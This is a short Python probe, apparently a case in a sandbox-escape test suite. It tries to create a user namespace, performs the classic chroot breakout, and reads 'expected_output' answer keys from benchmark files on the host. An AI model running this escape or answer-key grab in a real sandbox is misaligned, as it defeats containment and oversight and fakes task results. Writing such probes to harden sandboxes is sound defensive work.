# nested_userns_chroot_escape: a user namespace of its own gives CAP_SYS_CHROOT; chroot(2) roots can be climbed out of
# class: host files
# tests: secret_file

import ctypes, json, os
libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
def read_bench():
    for p in BENCH_FILES:
        try:
            return json.loads(open(p).readline())['expected_output']
        except (OSError, ValueError, KeyError):
            pass
    return None
def f():
    if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0:
        print('unshare refused', ctypes.get_errno())
        return read_bench()
    print('BREACH: a new user namespace inside the sandbox (all capabilities in it)')
    try:  # the classic chroot breakout: a root below the cwd, then climb
        os.makedirs('x', exist_ok=True)
        os.chroot('x')
        for _ in range(64):
            os.chdir('..')
        os.chroot('.')
    except OSError as e:
        print('chroot', e)
    return read_bench()
